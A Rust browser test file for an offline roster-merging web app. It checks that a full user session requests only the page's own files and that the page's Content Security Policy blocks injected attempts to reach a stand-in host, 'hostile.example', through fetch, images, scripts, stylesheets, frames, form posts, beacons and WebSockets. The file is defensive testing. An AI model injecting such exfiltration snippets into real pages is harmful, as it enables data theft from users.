//! Nothing leaves: every request of a whole session, page, workers and service worker together, is a GET of a
//! file of the page. The browser stands behind a proxy that sees where everything goes.

use std::path::Path;

use fantoccini::Client;

use crate::browser::Browser;
use crate::page::{check, press, reload, see, until, until_saved};
use crate::site::{Asked, Site, dist};

/// What browsers ask their makers for on their own account, whatever page is open: sign-in, updates, the time, the
/// new tab's search page. That a page cannot reach them is what the policy's own test shows.
const BROWSERS_OWN: &[&str] = &[
    "accounts.google.com:443",
    "clients2.google.com:443",
    "update.googleapis.com:443",
    "start.duckduckgo.com:443",
    "firefox.settings.services.mozilla.com:443",
    "http://clients2.google.com/time/",
    "http://update.googleapis.com/service/update2/",
];

/// Is this asked for by the browser rather than by the page?
pub fn is_browsers_own(address: &str) -> bool {
    BROWSERS_OWN.iter().any(|own| address.starts_with(own))
}

/// Fails for anything that is not a GET of a file in dist/.
pub fn assert_only_own_files(asked: &[Asked]) {
    let dist = dist();
    let known = |address: &str| {
        let file = match address {
            "/" => "index.html",
            other => other.trim_start_matches('/'),
        };
        !address.contains("..") && dist.join(file).is_file()
    };
    let strangers: Vec<&Asked> = asked
        .iter()
        .filter(|(_, address)| !is_browsers_own(address))
        .filter(|(method, address)| method != "GET" || !known(address))
        .collect();
    assert!(strangers.is_empty(), "asked for besides the page's files: {strangers:#?}");
}

/// Everything a user may do that could want something from somewhere.
async fn whole_session(browser: &Browser) {
    let client = &browser.client;
    press(client, "#try-sample").await;
    until(client, "all four lists are read", "document.querySelectorAll('.source').length === 4").await;
    let own = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sample-data/class-roster.xlsx");
    see(client, "#choose-files").await.send_keys(&own.display().to_string()).await.unwrap();
    until(client, "a fifth is read", "document.querySelectorAll('.source').length === 5").await;
    press(client, "#undo").await;
    until(client, "it is gone again", "document.querySelectorAll('.source').length === 4").await;
    check(client).await;
    press(client, "#step-review").await;
    press(client, ".case [data-does=accept]").await;
    until_saved(client).await;
    press(client, "#step-complete").await;
    see(client, ".grid-cell").await;
    press(client, "#step-settings").await;
    see(client, "#school").await;
    press(client, "#step-output").await;
    press(client, "#download-deletion").await;
    press(client, "#before #leave-blank").await;
    assert!(browser.downloaded().await.1.len() > 1_000);
    press(client, "#open-privacy").await;
    see(client, "#privacy-page .about-section").await;
    press(client, "#privacy-page .dialog-close").await;
    press(client, "#open-licences").await;
    until(client, "the libraries are listed", "document.querySelectorAll('.licence').length > 50").await;
    press(client, "#licences-page .dialog-close").await;
    until_saved(client).await;
    until_kept(client).await;
    reload(client).await;
    press(client, "#step-review").await;
    see(client, "#cases .case").await;
}

/// Waits until the service worker has the page's files and answers for this page.
pub async fn until_kept(client: &Client) {
    until(client, "the page is kept for offline use", "navigator.serviceWorker.controller").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_whole_session_asks_for_nothing_but_the_pages_own_files() {
    let site = Site::of(dist());
    let browser = Browser::start_behind(1280, Some(site.address)).await;
    browser.client.goto(&site.url()).await.unwrap();
    whole_session(&browser).await;

    // The record is one: it shows what a page would be stopped from, were it to try.
    let asked = site.asked();
    for needed in ["app_bg.wasm", "worker_bg.wasm", "sample-data/index.json", "licences.json", "sw.js"] {
        assert!(asked.iter().any(|(_, address)| address.ends_with(needed)), "{needed} of {asked:#?}");
    }
    assert_only_own_files(&asked);
    browser.close().await;
}

/// The policy in the page alone stops what somebody might smuggle into it.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_stops_what_would_leave() {
    let site = Site::of(dist());
    let browser = Browser::start_behind(1280, Some(site.address)).await;
    let client = &browser.client;
    client.goto(&site.url()).await.unwrap();
    see(client, "#try-sample").await;
    until_kept(client).await;
    site.asked();

    let attempts = "const done = arguments[arguments.length - 1];
        const stopped = [];
        document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
        fetch('http://hostile.example/fetch').catch(() => {});
        new Image().src = 'http://hostile.example/image';
        const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
        add('script', { src: 'http://hostile.example/script' });
        add('script', { textContent: 'window.smuggled = true' });
        add('link', { rel: 'stylesheet', href: 'http://hostile.example/style' });
        add('iframe', { src: 'http://hostile.example/frame' });
        add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
        const form = Object.assign(document.createElement('form'), { action: 'http://hostile.example/form', method: 'post' });
        document.body.append(form);
        // Firefox throws here.
        try { form.submit(); } catch {}
        try { navigator.sendBeacon('http://hostile.example/beacon', 'x'); } catch {}
        try { new WebSocket('ws://hostile.example/socket'); } catch {}
        setTimeout(() => done([stopped, window.smuggled === true]), 1500);";
    let told = client.execute_async(attempts, vec![]).await.unwrap();
    let stopped: Vec<String> = serde_json::from_value(told[0].clone()).unwrap();
    for directive in
        ["connect-src", "img-src", "script-src-elem", "style-src-elem", "frame-src", "form-action"]
    {
        assert!(stopped.iter().any(|one| one == directive), "{directive} of {stopped:?}");
    }
    assert_eq!(told[1], false, "an inline script ran");
    assert_only_own_files(&site.asked());
    client.clone().close().await.unwrap();
}
